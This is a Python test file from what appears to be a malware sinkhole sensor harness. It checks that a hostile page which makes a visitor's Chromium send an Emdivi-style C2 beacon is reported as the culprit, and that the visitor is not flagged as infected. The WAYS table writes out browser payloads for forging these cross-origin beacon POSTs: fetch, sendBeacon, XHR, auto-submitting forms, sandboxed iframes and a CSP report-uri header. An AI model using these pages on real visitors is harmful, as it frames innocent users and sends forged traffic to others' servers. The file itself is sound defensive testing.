# SPDX-License-Identifier: BSD-3-Clause
"""A page of another site makes a real Chromium send a beacon that decodes. The page is the finding: its visitor is not
INFECTED and not LIKELY, and nothing of the visitor's is written down."""

import http.server
import threading
import time

import pytest

from harness import paths
from harness.ask import addresses, ask
from harness.browser import RESOLVED, Chromium
from harness.clients import PROFILE, beacon, emdivi
from harness.daemon import wait_for

VISITOR = "10.10.200.1"  # what programs call from that choose no address, see in-namespace
EVIL = "10.10.202.1"
ORIGIN = f"http://{EVIL}:8000"
HOST = "www.sekisan.biz"
LISTED = f"http://{HOST}/wp-content/plugins/akismet/state/index.php"
BODY = emdivi([("id", "HOST01"), ("abc", PROFILE)], "&")
QUIET = "<meta name=referrer content=no-referrer>"


def fetch(**options):
    words = ", ".join(f"{key}: {value}" for key, value in {"mode": "'no-cors'", "method": "'POST'", "body": "body", **options}.items())
    return f"<script>const body = {BODY!r}; fetch('{LISTED}', {{{words}}}).catch(() => 0)</script>"


def form(encoding, name, value):
    return (f"<form id=f method=post enctype='{encoding}' action='{LISTED}'><textarea name=\"{name}\">{value}</textarea></form>"
            "<script>f.submit()</script>")


NAME, VALUE = emdivi([("abc", PROFILE)]).split("=", 1)
EMPTY = "{'Accept-Language': '', 'Accept': ''}"
# What a page can do, and the origin that the browser names all the same.
WAYS = {
    "fetch": (fetch(), ORIGIN),
    "fetch without a Referer": (QUIET + fetch(), ORIGIN),
    "fetch with headers of its own": (fetch(headers="{'Accept-Language': 'x', 'Accept': 'x', 'User-Agent': 'curl/8.0'}"), ORIGIN),
    "fetch with empty headers": (QUIET + fetch(headers=EMPTY), ORIGIN),
    "fetch with cookies": (fetch(credentials="'include'"), ORIGIN),
    "fetch that outlives its page": (fetch(keepalive="true"), ORIGIN),
    "fetch from a frame without origin": (f"<iframe sandbox=allow-scripts srcdoc=\"{fetch().replace(chr(34), '&quot;')}\"></iframe>", "null"),
    "sendBeacon": (f"<script>navigator.sendBeacon('{LISTED}', {BODY!r})</script>", ORIGIN),
    "XMLHttpRequest": (f"<script>x = new XMLHttpRequest; x.open('POST', '{LISTED}'); x.send({BODY!r})</script>", ORIGIN),
    "a plain form": (form("text/plain", NAME, VALUE), ORIGIN),
    "a plain form without a Referer": (QUIET + form("text/plain", NAME, VALUE), "null"),
    "a report of the content security policy": (f"<img src={ORIGIN}/blocked.gif>", ORIGIN),
}


class EvilPage(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        page = f"<!doctype html><html lang=en><title>x</title><body>{self.server.body}".encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        if "report of" in self.server.way:
            self.send_header("Content-Security-Policy", f"img-src 'none'; {emdivi([('abc', PROFILE)])}; report-uri {LISTED}")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    def log_message(self, *_):
        pass


@pytest.fixture(scope="module")
def evil():
    with http.server.ThreadingHTTPServer((EVIL, 8000), EvilPage) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def browser(sensor, tmp_path_factory):
    hosts = {HOST: addresses(ask(HOST, source=paths.client(9)))[0], EVIL: RESOLVED}
    with Chromium(tmp_path_factory.mktemp("chromium"), hosts) as browser:
        yield browser


def rows(site, host):
    return [line.split() for line in site.sinkctl("hosts").splitlines() if host in line.split()]


@pytest.mark.parametrize("way", WAYS)
def test_a_page_infects_none_of_its_visitors(sensor, browser, evil, way):
    before = len(sensor.contacts("http-request"))
    (evil.body, origin), evil.way = WAYS[way], way
    browser.open(f"{ORIGIN}/?secret=4711")
    wait_for(lambda: len(sensor.contacts("http-request")) > before, "the request that the page makes", 20)
    time.sleep(0.3)
    browser.open("about:blank")
    found = [e for e in sensor.contacts("http-request")[before:] if e["source"]["ip"] == VISITOR]
    posted = [e for e in found if e["http"]["request"]["method"] == "POST"]
    assert posted
    for event in posted:
        assert {"decoded", "page", "c2-url"} <= set(event["sinkhole"]["evidence"])
        assert event["sinkhole"]["page"] == origin
        assert "raw" not in event["sinkhole"] and "query" not in event["url"] and "4711" not in str(event)
    assert rows(sensor, VISITOR) and {tuple(row[:2]) for row in rows(sensor, VISITOR)} <= {
        ("POSSIBLE", "planted-beacon"), ("PERSON", "browser")}


def test_the_page_is_shown_as_the_finding(sensor, browser, evil):
    (evil.body, _), evil.way = WAYS["fetch"], "fetch"
    browser.open(ORIGIN)
    wait_for(lambda: [e for e in sensor.contacts() if e["sinkhole"].get("page") == ORIGIN], "the request", 20)
    browser.open("about:blank")
    assert ORIGIN in sensor.sinkctl("hosts") and ORIGIN in sensor.sinkctl("host", VISITOR)
    assert "HOST01" not in sensor.contact_log.read_text()


def test_the_malware_itself_is_told_from_the_page(sensor):
    """The same bytes from a program, also beside what a page has planted."""
    sink = addresses(ask(HOST, source=VISITOR))[0]
    before = len(sensor.contacts())
    beacon(LISTED, sink, VISITOR, BODY)
    sensor.await_contacts(before + 1)
    assert rows(sensor, VISITOR)[0][:2] == ["INFECTED", "beacon"]
    page = sensor.sinkctl("host", VISITOR)
    assert "INFECTED (beacon)" in page
